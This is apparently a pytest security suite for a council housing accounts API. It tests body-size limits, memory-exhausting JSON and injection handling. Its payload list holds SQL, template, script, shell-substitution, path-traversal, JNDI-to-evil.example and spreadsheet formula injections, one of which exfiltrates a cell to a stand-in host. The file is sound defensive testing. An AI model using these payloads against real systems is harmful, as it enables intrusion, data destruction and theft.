"""Security item 8: bodies over the limit, JSON built to exhaust memory, and injection attempts.

* A body over `ACCOUNTS_MAX_BODY_BYTES` is refused with 413 before it is read, let
  alone parsed: a request that only *announces* a gigabyte is answered at once, and a
  chunked body with no length is cut off soon after the limit.
* JSON nested 100,000 deep, or as wide, long or numerous as the limit allows, gets a
  4xx problem quickly and leaves the server's memory where it was (a real `accounts
  serve` process, measured with psutil).
* Injection attempts (SQL, template, shell, script, spreadsheet formulas, path
  traversal, LDAP lookups) in every string field and query parameter are stored
  verbatim or refused with a 400: never executed, never a 5xx, every table intact,
  and never a formula in the interim workbook. On SQLite and on PostgreSQL.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
import uuid
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import psutil
import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient

from accounts.adapters.database import tables as t
from accounts.bootstrap import Application, bootstrap
from accounts.entrypoints.http.app import create_app
from accounts.entrypoints.http.auth import mint_token
from accounts.service.interim_sync import reconcile
from accounts.settings import Settings
from tests.conftest import free_port, make_settings
from tests.integration.test_api_support import tenure_request
from tests.reliability.harness import wait_until
from tests.reliability.live import live_api
from tests.security.conftest import PROBLEM_JSON, tenure_event

LIMIT = 8192
WRITER = ["housing-finance-write"]


def token_for(settings: Settings) -> str:
    return mint_token(settings, name="Limits", email="limits@hackney.gov.uk", groups=WRITER)


# Bodies over the limit ---------------------------------------------------------------------


@pytest.fixture
def small_limit(tmp_path: Path) -> Iterator[tuple[str, str, str]]:
    """A served API whose body limit is 8 KiB: (host:port, token, an existing account id)."""
    app = bootstrap(
        make_settings(
            f"sqlite:///{tmp_path / 'limits.db'}", tmp_path, max_body_bytes=LIMIT, max_events_body_bytes=LIMIT
        ),
        run_migrations=True,
    )
    token = token_for(app.settings)
    try:
        with live_api(app) as base_url:
            created = httpx.post(
                f"{base_url}/accounts", json=tenure_request(), headers={"Authorization": f"Bearer {token}"}
            )
            yield base_url.split("/")[2], token, created.json()["id"]
    finally:
        app.close()


def body_routes(account_id: str) -> list[tuple[str, str, str]]:
    return [
        ("POST", "/api/v1/accounts", "application/json"),
        ("PATCH", f"/api/v1/accounts/{account_id}", "application/merge-patch+json"),
        ("POST", "/api/v1/events", "application/json"),
    ]


def read_response(sock: socket.socket, timeout: float) -> tuple[int, bytes]:
    sock.settimeout(timeout)
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        if not chunk:
            break
        data += chunk
    head, _, rest = data.partition(b"\r\n\r\n")
    status = int(head.split(b" ", 2)[1]) if head else 0
    length = next(
        (int(line.split(b":")[1]) for line in head.split(b"\r\n") if line.lower().startswith(b"content-length:")), 0
    )
    while len(rest) < length:
        chunk = sock.recv(65536)
        if not chunk:
            break
        rest += chunk
    return status, head + b"\r\n\r\n" + rest


def test_a_body_announced_over_the_limit_is_refused_before_any_of_it_is_sent(small_limit) -> None:
    address, token, account_id = small_limit
    host, port = address.split(":")
    for method, path, content_type in body_routes(account_id):
        with socket.create_connection((host, int(port))) as sock:
            sock.sendall(
                f"{method} {path} HTTP/1.1\r\nHost: {address}\r\nAuthorization: Bearer {token}\r\n"
                f"Content-Type: {content_type}\r\nContent-Length: 1000000000\r\n\r\n".encode()
            )
            started = time.monotonic()
            status, raw = read_response(sock, timeout=5)  # not a byte of the gigabyte was sent
        assert status == 413, raw[:500]
        assert PROBLEM_JSON.encode() in raw.lower() and time.monotonic() - started < 5, raw[:500]


def test_a_chunked_body_without_a_length_is_cut_off_soon_after_the_limit(small_limit) -> None:
    address, token, account_id = small_limit
    host, port = address.split(":")
    chunk = b"[" + b"1," * 2000 + b"1]"  # about 4 KB a chunk, endless
    for method, path, content_type in body_routes(account_id):
        sent = 0
        with socket.create_connection((host, int(port))) as sock:
            sock.sendall(
                f"{method} {path} HTTP/1.1\r\nHost: {address}\r\nAuthorization: Bearer {token}\r\n"
                f"Content-Type: {content_type}\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
            )
            sock.settimeout(0.05)
            answer = b""
            while sent < 64 * 1024 * 1024:
                try:
                    sock.sendall(f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n")
                    sent += len(chunk)
                except OSError:
                    break  # the server closed its side
                try:
                    answer = sock.recv(65536)
                    if answer:
                        break
                except TimeoutError:
                    continue
            if not answer:
                _, answer = read_response(sock, timeout=5)
        assert answer.startswith(b"HTTP/1.1 413"), answer[:300]
        # The server stopped reading soon after the limit: what was sent is what loopback buffers hold.
        assert sent < 16 * 1024 * 1024, f"{method} {path}: {sent} bytes accepted before the 413"
        print(f"chunked {method} {path}: 413 after {sent} bytes sent (limit {LIMIT})")


# JSON built to exhaust memory ----------------------------------------------------------------


@pytest.fixture
def served_process(tmp_path: Path) -> Iterator[tuple[str, str, psutil.Process]]:
    """A real `accounts serve --no-worker` with the default body limit: (API URL, token, its process)."""
    port = free_port()
    env = {key: value for key, value in os.environ.items() if not key.startswith("ACCOUNTS_")}
    env.update(
        {
            "ACCOUNTS_ENVIRONMENT": "test",
            "ACCOUNTS_DATABASE_URL": f"sqlite:///{tmp_path / 'memory.db'}",
            "ACCOUNTS_SPREADSHEET_PATH": str(tmp_path / "interim.xlsx"),
            "ACCOUNTS_PORT": str(port),
            "ACCOUNTS_LOG_LEVEL": "WARNING",
        }
    )
    log = (tmp_path / "serve.log").open("wb")
    process = subprocess.Popen(
        [sys.executable, "-m", "accounts.entrypoints.cli", "serve", "--no-worker"], env=env, stdout=log, stderr=log
    )
    url = f"http://127.0.0.1:{port}/api/v1"

    def answers() -> bool:
        try:
            return httpx.get(f"{url}/health/live", timeout=1).status_code == 200
        except httpx.HTTPError:
            return process.poll() is not None

    try:
        wait_until(answers, 60, "the API to answer")
        assert process.poll() is None, (tmp_path / "serve.log").read_text()
        settings = Settings(_env_file=None, environment="test")  # type: ignore[call-arg]
        yield url, token_for(settings), psutil.Process(process.pid)
    finally:
        process.kill()
        process.wait(10)
        log.close()


def hostile_documents(limit: int) -> list[tuple[str, bytes]]:
    room = limit - 64
    return [
        ("an array nested 100,000 deep", b"[" * (room // 2) + b"]" * (room // 2)),
        ("an object nested 20,000 deep", b'{"a":' * 20_000 + b"1" + b"}" * 20_000),
        (
            "a value nested deep in an account",
            json.dumps({"tenure": "DEEP"}).encode().replace(b'"DEEP"', b"[" * 50_000 + b"]" * 50_000),
        ),
        ("an array of 100,000 numbers", b"[" + b"1," * ((room - 2) // 2) + b"1]"),
        (
            "an object of 20,000 keys",
            json.dumps({f"k{i}": i for i in range(20_000)}).encode()[:room].rsplit(b",", 1)[0] + b"}",
        ),
        ("a string of 250 KB", json.dumps({"agreementType": "x" * (room - 40)}).encode()),
        ("a number of 250,000 digits", b'{"accountBalance": ' + b"9" * (room - 40) + b"}"),
        ("an exponent of a billion", b'{"accountBalance": 1e999999999}'),
        ("a fraction of 250,000 digits", b'{"accountBalance": 0.' + b"1" * (room - 40) + b"}"),
    ]


@pytest.mark.slow
def test_json_built_to_exhaust_memory_is_refused_quickly_and_memory_stays_put(served_process) -> None:
    url, token, process = served_process
    headers = {"Authorization": f"Bearer {token}"}
    with httpx.Client(base_url=url, headers=headers, timeout=30) as client:
        account = client.post("/accounts", json=tenure_request()).json()
        documents = hostile_documents(262_144)
        routes = [
            ("POST", "/accounts", "application/json"),
            ("PATCH", f"/accounts/{account['id']}", "application/merge-patch+json"),
            ("PATCH", f"/accounts/{account['id']}", "application/json-patch+json"),
            ("POST", "/events", "application/json"),
        ]

        def attack() -> None:
            for label, body in documents:
                for method, path, content_type in routes:
                    started = time.monotonic()
                    response = client.request(method, path, content=body, headers={"Content-Type": content_type})
                    where = f"{label} to {method} {path} ({content_type})"
                    assert 400 <= response.status_code < 500, f"{where}: {response.status_code} {response.text[:300]}"
                    assert response.headers["content-type"].startswith(PROBLEM_JSON), where
                    assert len(response.content) < 4096, f"{where}: the problem echoes the input back"
                    assert time.monotonic() - started < 10, f"{where} took {time.monotonic() - started:.1f}s"

        attack()  # once to warm every code path up
        before = process.memory_info().rss
        for _ in range(3):
            attack()
        grown = process.memory_info().rss - before
        print(
            f"memory: {before / 1e6:.0f} MB after warming up, {grown / 1e6:+.1f} MB after {3 * len(documents) * len(routes)} hostile requests"
        )
        assert grown < 48 * 1024 * 1024, (
            f"the server grew by {grown / 1e6:.0f} MB over {3 * len(documents) * len(routes)} requests"
        )
        assert client.get("/health/live").status_code == 200
        assert client.get(f"/accounts/{account['id']}").json() == account, "nothing was changed"


# Injection -------------------------------------------------------------------------------------

MARKER = Path("/tmp") / f"accounts-injection-{uuid.uuid4().hex}"
PAYLOADS = [
    "'; DROP TABLE accounts; --",
    "1' OR '1'='1' --",
    '" OR ""="',
    "Robert'); DELETE FROM outbox; --",
    "' UNION SELECT payment_reference, null FROM accounts --",
    "1; SELECT pg_sleep(10); --",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}<%= 7*7 %>",
    "<script>alert('x')</script>",
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    f"$(touch {MARKER})",
    f"`touch {MARKER}`",
    "${jndi:ldap://evil.example/a}",
    '{"$gt": ""}',
    "%27%20OR%201%3D1--",
    "\u202egnp.exe",
]

# Where a string goes in an account body: (name, path into the body).
STRING_FIELDS: list[tuple[str, tuple[Any, ...]]] = [
    ("agreementType", ("agreementType",)),
    ("endReasonCode", ("endReasonCode",)),
    ("targetType", ("targetType",)),
    ("accountType", ("accountType",)),
    ("rentGroupType", ("rentGroupType",)),
    ("accountStatus", ("accountStatus",)),
    ("paymentReference", ("paymentReference",)),
    ("targetId", ("targetId",)),
    ("parentAccountId", ("parentAccountId",)),
    ("startDate", ("startDate",)),
    ("createdBy", ("createdBy",)),
    ("tenure.tenureId", ("tenure", "tenureId")),
    ("tenure.fullAddress", ("tenure", "fullAddress")),
    ("tenure.tenureType.code", ("tenure", "tenureType", "code")),
    ("tenure.tenureType.description", ("tenure", "tenureType", "description")),
    ("tenure.primaryTenants.id", ("tenure", "primaryTenants", 0, "id")),
    ("tenure.primaryTenants.fullName", ("tenure", "primaryTenants", 0, "fullName")),
    ("consolidatedCharges.type", ("consolidatedCharges", 0, "type")),
    ("consolidatedCharges.frequency", ("consolidatedCharges", 0, "frequency")),
]


def put(document: dict[str, Any], path: tuple[Any, ...], value: Any) -> None:
    for key in path[:-1]:
        document = document[key]
    document[path[-1]] = value


def get(document: Any, path: tuple[Any, ...]) -> Any:
    for key in path:
        document = document[key]
    return document


@pytest.fixture(params=["sqlite", "postgresql"])
def injected(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[Application, TestClient]]:
    url = (
        f"sqlite:///{tmp_path / 'inject.db'}"
        if request.param == "sqlite"
        else request.getfixturevalue("postgres_database")
    )
    app = bootstrap(make_settings(url, tmp_path), run_migrations=True)
    client = TestClient(create_app(app), raise_server_exceptions=False)
    client.headers["Authorization"] = f"Bearer {token_for(app.settings)}"
    try:
        yield app, client
    finally:
        app.close()


def assert_stored_or_refused(response: httpx.Response, where: str) -> bool:
    """True when stored (2xx), False when refused with a 400/404/409 problem; anything else fails."""
    assert response.status_code < 500, f"{where}: {response.status_code} {response.text[:300]}"
    if response.status_code < 300:
        return True
    assert response.status_code in (400, 404, 409), f"{where}: {response.status_code} {response.text[:300]}"
    assert response.headers["content-type"].startswith(PROBLEM_JSON), where
    return False


def test_injection_in_every_string_field_is_stored_verbatim_or_refused(injected) -> None:
    app, client = injected
    stored = refused = 0
    for name, path in STRING_FIELDS:
        for payload in PAYLOADS:
            body = tenure_request()
            body["consolidatedCharges"] = [{"type": "Rent", "frequency": "Weekly", "amount": 95.5}]
            put(body, path, payload)
            where = f"{name} = {payload!r}"
            response = client.post("/api/v1/accounts", json=body)
            if not assert_stored_or_refused(response, where):
                refused += 1
                continue
            stored += 1
            read = client.get(f"/api/v1/accounts/{response.json()['id']}").json()
            if name == "createdBy":
                assert read["createdBy"] == "limits@hackney.gov.uk", where  # from the token, never the body
            else:
                assert get(read, path) == payload, f"{where}: read back as {get(read, path)!r}"
    assert stored and refused, (stored, refused)

    # The same strings as changes to an account that exists.
    account = client.post("/api/v1/accounts", json=tenure_request()).json()
    for name in ("agreementType", "endReasonCode"):
        for payload in PAYLOADS:
            current = client.get(f"/api/v1/accounts/{account['id']}")
            response = client.patch(
                f"/api/v1/accounts/{account['id']}",
                content=json.dumps({name: payload}),
                headers={"Content-Type": "application/merge-patch+json", "If-Match": current.headers["ETag"]},
            )
            if assert_stored_or_refused(response, f"PATCH {name} = {payload!r}"):
                assert client.get(f"/api/v1/accounts/{account['id']}").json()[name] == payload
    assert_nothing_ran(app)


def test_injection_in_every_query_parameter_and_id_is_refused_or_harmless(injected) -> None:
    app, client = injected
    account = client.post("/api/v1/accounts", json=tenure_request()).json()
    target = account["targetId"]
    for payload in PAYLOADS:
        value = quote(payload, safe="")
        urls = [
            f"/api/v1/accounts?targetId={value}",
            f"/api/v1/accounts?targetId={target}&accountType={value}",
            f"/api/v1/accounts?targetId={target}&type={value}",
            f"/api/v1/accounts/{value}",
            f"/api/v1/accounts/arrears?type={value}",
            f"/api/v1/accounts/arrears?accountType={value}",
            f"/api/v1/accounts/arrears?sortBy={value}",
            f"/api/v1/accounts/arrears?sort={value}",
            f"/api/v1/accounts/arrears?direction={value}",
            f"/api/v1/accounts/arrears?resultsCount={value}",
        ]
        for url in urls:
            response = client.get(url)
            if assert_stored_or_refused(response, url):
                listed = response.json().get("accountResponseList", [])
                assert all(item["id"] == account["id"] for item in listed if "targetId" in url), url
        response = client.patch(
            f"/api/v1/accounts/{value}", content="{}", headers={"Content-Type": "application/merge-patch+json"}
        )
        assert_stored_or_refused(response, f"PATCH /accounts/{payload!r}")
    assert_nothing_ran(app)


def test_injection_in_event_envelopes_is_queued_verbatim_or_refused(injected) -> None:
    app, client = injected
    for payload in PAYLOADS:
        for field in ("eventType", "sourceDomain", "sourceSystem", "version", "entityId", "dateTime", "id"):
            event = tenure_event()
            event[field] = payload
            response = client.post("/api/v1/events", json=event)
            if assert_stored_or_refused(response, f"event {field} = {payload!r}"):
                with app.engine.connect() as connection:
                    bodies = connection.execute(sa.select(t.embedded_messages.c.body)).scalars().all()
                assert any(json.loads(body).get(field) == payload for body in bodies), f"{field} = {payload!r}"
    assert_nothing_ran(app)


def test_formulas_in_tenure_text_reach_the_interim_workbook_as_plain_text(injected, tmp_path: Path) -> None:
    app, client = injected
    formulas = [payload for payload in PAYLOADS if payload[:1] in "=+-@"]
    for payload in formulas:
        body = tenure_request()
        body["tenure"]["fullAddress"] = f"{payload}, London E8 1DY"
        body["tenure"]["primaryTenants"][0]["fullName"] = f"Mr {payload} Smith"
        assert client.post("/api/v1/accounts", json=body).status_code == 201
    app.interim.enable_sinks()
    app.interim.flush_all()
    workbook = app.settings.spreadsheet_path
    with zipfile.ZipFile(workbook) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            xml = archive.read(name)
            assert b"<f>" not in xml and b"<f " not in xml, f"{name} holds a formula"
        strings = archive.read("xl/sharedStrings.xml").decode()
    assert "HYPERLINK" in strings, "the formula-like text is in the workbook, as text"
    assert reconcile(app.uow, app.sinks) == []


def assert_nothing_ran(app: Application) -> None:
    """Every table is still there, the shell never ran, and no template was evaluated."""
    with app.engine.connect() as connection:
        for table in t.metadata.sorted_tables:
            connection.execute(sa.select(sa.func.count()).select_from(table)).scalar_one()
        texts = connection.execute(sa.select(t.accounts.c.agreement_type)).scalars().all()
    assert not MARKER.exists(), "a shell command in the input was run"
    assert "49" not in texts, "a template in the input was evaluated"
